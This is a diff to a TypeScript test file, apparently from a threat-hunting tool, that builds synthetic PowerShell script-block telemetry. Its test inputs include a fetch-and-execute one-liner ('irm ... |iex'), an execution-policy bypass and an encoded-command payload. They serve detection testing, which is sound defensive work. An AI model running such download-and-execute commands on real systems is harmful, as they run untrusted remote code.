@@ -1,5 +1,5 @@
 import { observableEvents, type ObservableLike } from './observable-events';
-import { scriptBlockOf } from './command-side-effects';
+import { scriptBlockCode } from '@huntforge/observables';
 import { recordedPath } from './command-io-effects';
 
 const eventsOf = (observables: ObservableLike[], product: string) => observableEvents(observables, { product }).map(({ event }) => event);
@@ -81,12 +81,12 @@ describe('synthetic telemetry of a command line', () => {
 
   it('logs the code PowerShell runs as a script block, decoding -EncodedCommand', () => {
     const encoded = Buffer.from('Get-Process | Out-File C:\\x.txt', 'utf16le').toString('base64');
-    expect(scriptBlockOf(`powershell.exe -NoProfile -EncodedCommand ${encoded}`)).toBe('Get-Process | Out-File C:\\x.txt');
-    expect(scriptBlockOf('powershell -ep bypass -Command "Get-Service -Name Example"')).toBe('Get-Service -Name Example');
-    expect(scriptBlockOf("irm 'https://example.org/a'|iex")).toBe("irm 'https://example.org/a'|iex");
+    expect(scriptBlockCode(`powershell.exe -NoProfile -EncodedCommand ${encoded}`)).toBe('Get-Process | Out-File C:\\x.txt');
+    expect(scriptBlockCode('powershell -ep bypass -Command "Get-Service -Name Example"')).toBe('Get-Service -Name Example');
+    expect(scriptBlockCode("irm 'https://example.org/a'|iex")).toBe("irm 'https://example.org/a'|iex");
     // Not PowerShell, or an encoded payload that is not readable text: no script block.
-    expect(scriptBlockOf('cmd /c dir')).toBeNull();
-    expect(scriptBlockOf('powershell -e QUJDREVGR0hJSktMTU5PUA==')).toBeNull();
+    expect(scriptBlockCode('cmd /c dir')).toBeNull();
+    expect(scriptBlockCode('powershell -e QUJDREVGR0hJSktMTU5PUA==')).toBeNull();
     const events = eventsOf([cmdline('powershell -c "Set-Example -Mode 1"')], 'windows');
     expect(withId(events, 4104).map((event) => event['ScriptBlockText'])).toEqual(['Set-Example -Mode 1']);
     // A Linux line gives none of the Windows logs.
